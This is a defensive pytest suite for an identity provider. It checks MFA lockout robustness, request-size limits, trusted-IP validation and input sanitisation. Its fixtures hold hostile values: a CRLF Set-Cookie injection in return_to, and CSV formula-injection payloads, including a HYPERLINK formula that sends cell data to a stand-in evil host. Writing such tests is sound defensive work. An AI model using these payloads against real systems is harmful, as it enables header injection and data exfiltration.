"""Input at the boundaries: malformed answers never count towards (or wedge) MFA lockout, every JSON body goes
through one size- and depth-checked loader, request sizes are bounded, and hostile values get a 4xx."""

import base64
from urllib.parse import quote

import pytest

from idp.extensions import db
from idp.methods.oath import service as oath_service
from idp.mfa.models import MfaUserState

from .support import PASSWORD, REDIRECT, Agent, password_sign_in
from .test_mfa_settings import LOCKED, at_oath_step, configure
from .test_oath_api_and_signin import current_code
from .test_oidc_flow import Rp
from .test_strengths import with_totp

NESTED = "[" * 30_000 + "]" * 30_000


def lockout_state(user_id):
    db.session.expire_all()
    row = db.session.get(MfaUserState, user_id)
    return (row.denials, row.in_flight, row.locked_until) if row else (0, 0, None)


# --- H-2: permanent MFA lockout -------------------------------------------------------------------------


def test_deeply_nested_passkey_credential_is_malformed_and_never_claims_a_lockout_slot(app, live, seed):
    from .authenticator import SoftAuthenticator
    from .test_passkeys import enable_fido2, msi_agent, passkey_step, register

    configure(seed.tenant.id, "accountLockout", mfaDenialsBeforeLockout=3)
    enable_fido2(seed.tenant.id)
    key = SoftAuthenticator()
    register(msi_agent(live, seed), key, live)
    agent = Agent(live.url)
    agent.go(Rp(live, seed).authorize_url())
    agent.submit("/login", username="alice@contoso.test")
    for _ in range(10):
        agent.go("/contoso.test/login/method/passkey")
        response = agent.submit("/login/method/passkey", credential=NESTED)
        assert response.status_code == 400, response.status_code
        assert "could not be read" in agent.text()
    assert lockout_state(seed.alice.id) == (0, 0, None)
    agent.go("/contoso.test/login/method/passkey")
    passkey_step(agent, key, live)  # the owner is not locked out
    assert "/login/kmsi" in agent.page.url, agent.text()[:300]


def test_non_ascii_digits_in_a_totp_code_are_malformed_not_a_lockout(app, live, seed):
    secret = with_totp(seed.alice)
    configure(seed.tenant.id, "accountLockout", mfaDenialsBeforeLockout=3)
    _, agent = at_oath_step(live, seed)
    for code in ["¹²³⁴⁵⁶", "١٢٣٤٥٦", "１２３４５６", "12345", "abcdef", "1234567"]:
        response = agent.submit("/login/method/oath", otc=code)
        assert response.status_code == 400 and "6-digit code" in agent.text(), code
    assert lockout_state(seed.alice.id)[:2] == (0, 0)
    assert LOCKED not in agent.text()
    agent.submit("/login/method/oath", otc=current_code(secret))
    assert "/login/kmsi" in agent.page.url


def test_a_verifier_that_raises_still_settles_its_lockout_slot(app, live, seed, monkeypatch):
    secret = with_totp(seed.alice)
    configure(seed.tenant.id, "accountLockout", mfaDenialsBeforeLockout=3)
    _, agent = at_oath_step(live, seed)

    def broken(*args, **kwargs):
        raise RuntimeError("verifier failed")

    monkeypatch.setattr(oath_service, "verify", broken)
    for _ in range(5):
        assert agent.submit("/login/method/oath", otc="123456").status_code == 500
        agent.go("/contoso.test/login/method/oath")
    assert lockout_state(seed.alice.id)[1] == 0  # no slot left in flight
    monkeypatch.undo()
    agent.submit("/login/method/oath", otc=current_code(secret))
    assert "/login/kmsi" in agent.page.url, agent.text()[:300]


# --- L-6: hostile values at the OAuth and sign-in boundaries ----------------------------------------------


@pytest.mark.parametrize(
    "header",
    [
        "Basic ",
        "Basic",
        "Basic " + base64.b64encode(b"\xff\xfe:\xfa").decode(),
        "Basic %%%",
        "Basic " + base64.b64encode(b":").decode(),
    ],
)
def test_malformed_basic_credentials_are_invalid_client(app, seed, header):
    with app.test_client() as client:
        for endpoint in ("token", "introspect", "revoke"):
            response = client.post(
                f"/contoso.test/oauth2/v2.0/{endpoint}",
                headers={"Authorization": header},
                data={
                    "grant_type": "client_credentials",
                    "token": "x",
                    "scope": "https://graph.microsoft.com/.default",
                },
            )
            assert response.status_code == 401, (endpoint, response.status_code)
            assert response.get_json()["error"] == "invalid_client"


def test_return_to_with_control_characters_is_ignored(app, live, seed):
    agent = Agent(live.url)
    agent.go("/contoso.test/login/?return_to=" + quote("/contoso.test/login/done\r\nSet-Cookie: x=1"))
    agent.submit("/login", username="alice@contoso.test")
    response = agent.submit("/login/method/password", password=PASSWORD)
    assert response.status_code == 200
    agent.submit("/login/kmsi", stay="no")
    assert agent.page.status_code == 200 and "x=1" not in agent.http.cookies.keys()


def test_a_huge_max_age_is_any_age_not_a_500(app, live, seed):
    rp = Rp(live, seed)
    agent = Agent(live.url)
    agent.go(rp.authorize_url())
    password_sign_in(agent, "alice@contoso.test")
    agent.go(rp.authorize_url(max_age="99999999999999999"))
    assert agent.location.startswith(REDIRECT) and "code=" in agent.location  # SSO: the session is young enough
    agent.go(rp.authorize_url(max_age="9" * 5000))  # int() refuses 5,000 digits: treated as absent
    assert agent.page.status_code < 500


def test_a_tap_start_in_year_9999_is_refused_and_an_old_row_does_not_break_pages(app, seed):
    from datetime import datetime
    from idp.methods.tap import service as tap_service
    from idp.methods.tap.models import TemporaryAccessPass
    from .test_tap_signin import enable_tap

    enable_tap(seed.tenant.id)
    with pytest.raises(tap_service.TapError, match="at most"):
        tap_service.create(seed.alice, None, "9999-12-31T23:59:00Z", 60)
    row = TemporaryAccessPass(
        tenant_id=seed.tenant.id,
        user_id=seed.alice.id,
        code_hash="x",
        start_at=datetime(9999, 12, 31, 23, 59),
        lifetime_minutes=60,
        is_usable_once=True,
    )
    assert row.ends_at == datetime.max


# --- L-7: request sizes -------------------------------------------------------------------------------------


def test_large_anonymous_forms_are_refused_with_413(app, seed):
    with app.test_client() as client:
        client.get("/contoso.test/login/")
        big = client.post("/contoso.test/login/", data={"username": "x" * (2 * 1024 * 1024)})
        assert big.status_code == 413
        field = client.post(
            "/contoso.test/login/",
            content_type="multipart/form-data",
            data={"username": "a@b.c", "pad": "y" * (900 * 1024)},
        )
        assert field.status_code == 413  # under MAX_CONTENT_LENGTH, but a field over MAX_FORM_MEMORY_SIZE
        token = client.post("/contoso.test/oauth2/v2.0/token", data={"grant_type": "x" * (2 * 1024 * 1024)})
        assert token.status_code == 413


def test_oath_csv_upload_has_its_own_streamed_cap(app, live, seed, graph_as):
    app.config["IDP_OATH_CSV_MAX_BYTES"] = 3 * 1024 * 1024
    ga = graph_as("ga")
    url = f"{ga.base}/beta/directory/authenticationMethodDevices/hardwareOathDevices/import"
    header = b"upn,serial number,secret key,time interval,manufacturer,model\n"
    fits = ga.http.post(url, data=header + b"a" * (2 * 1024 * 1024), headers={"Content-Type": "text/csv"})
    assert fits.status_code == 202, fits.text[:300]  # above MAX_CONTENT_LENGTH, under the CSV cap
    too_big = ga.http.post(url, data=header + b"a" * (4 * 1024 * 1024), headers={"Content-Type": "text/csv"})
    assert too_big.status_code == 413 and too_big.json()["error"]["code"] == "RequestEntityTooLarge"
    import os

    assert not [
        f
        for f in os.listdir(os.path.join(app.instance_path, "imports"))
        if f.endswith(".csv") and os.path.getsize(os.path.join(app.instance_path, "imports", f)) > 3 * 1024 * 1024
    ]


# --- L-1: trusted IPs and named locations -----------------------------------------------------------------


@pytest.mark.parametrize(
    "cidr,why",
    [
        ("0.0.0.0/1", "too wide"),
        ("0.0.0.0/0", "too wide"),
        ("128.0.0.0/2", "too wide"),
        ("8.0.0.0/7", "too wide"),
        ("8.0.0.0/6", "too wide"),
        ("10.0.0.0/8", "private or reserved"),
        ("100.0.0.0/8", "private or reserved"),
        ("172.0.0.0/8", "private or reserved"),
        ("127.0.0.1/32", "private or reserved"),
        ("192.0.2.0/24", "private or reserved"),
        ("224.0.0.0/8", "private or reserved"),
        ("nope", "CIDR"),
    ],
)
def test_trusted_ips_refuse_supernets_private_and_too_wide_ranges(graph_as, cidr, why):
    apa = graph_as("apa")
    response = apa("PATCH", "/policies/mfaSettings/trustedIps", {"skipMfaForTrustedIps": True, "ranges": [cidr]})
    assert response.status_code == 400 and why in response.json()["error"]["message"], response.text
    location = apa(
        "POST",
        "/identity/conditionalAccess/namedLocations",
        {"displayName": "x", "isTrusted": True, "ipRanges": [{"cidrAddress": cidr}]},
    )
    assert location.status_code == 400 and why in location.json()["error"]["message"], location.text


@pytest.mark.parametrize(
    "cidr,why",
    [
        ("::/0", "too wide"),
        ("2000::/3", "too wide"),
        ("2001::/16", "private or reserved"),
        ("fd00::/16", "private or reserved"),
        ("::1/128", "private or reserved"),
        ("::ffff:10.0.0.0/104", "private or reserved"),
    ],
)
def test_named_locations_refuse_wide_and_reserved_ipv6(graph_as, cidr, why):
    location = graph_as("apa")(
        "POST", "/identity/conditionalAccess/namedLocations", {"displayName": "x", "ipRanges": [{"cidrAddress": cidr}]}
    )
    assert location.status_code == 400 and why in location.json()["error"]["message"], location.text


def test_public_ranges_are_accepted(graph_as):
    apa = graph_as("apa")
    assert apa("PATCH", "/policies/mfaSettings/trustedIps", {"ranges": ["81.0.0.0/8", "8.8.8.8/32"]}).status_code == 204
    assert (
        apa(
            "POST",
            "/identity/conditionalAccess/namedLocations",
            {"displayName": "x", "ipRanges": [{"cidrAddress": "2a01::/16"}, {"cidrAddress": "81.2.69.0/24"}]},
        ).status_code
        == 201
    )


# --- L-3: the OATH import's error report ---------------------------------------------------------------------

SECRET_A, SECRET_B = "JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP", "GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ"
MISALIGNED = f"""upn,serial number,secret key,time interval,manufacturer,model
{SECRET_A},30,Contoso,HardwareKey
=HYPERLINK("https://evil.example/?x="&A1),S-1,{SECRET_B},30,Contoso,Key
alice@contoso.test,@SUM(1+1),NOT*BASE32,30,Contoso,Key
"""


def test_the_import_error_report_never_carries_a_secret_and_is_inert(graph_as, seed):
    from .test_oath_api_and_signin import DEVICES, wait_for

    gr, apa = graph_as("gr"), graph_as("apa")
    started = apa.http.post(f"{apa.base}/beta{DEVICES}/import", data=MISALIGNED, headers={"Content-Type": "text/csv"})
    job = wait_for(apa, started.json()["id"])
    assert job["failedRows"] == 3, job
    report = gr("GET", f"{DEVICES}/import/{job['id']}/errors")  # a Global Reader may read it
    assert report.status_code == 200
    assert SECRET_A not in report.text and SECRET_B not in report.text
    import csv
    import io

    rows = list(csv.reader(io.StringIO(report.text)))[1:]
    cells = [cell for row in rows for cell in row[1:]]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
    assert "'=HYPERLINK(" in report.text and "'@SUM(1+1)" in report.text
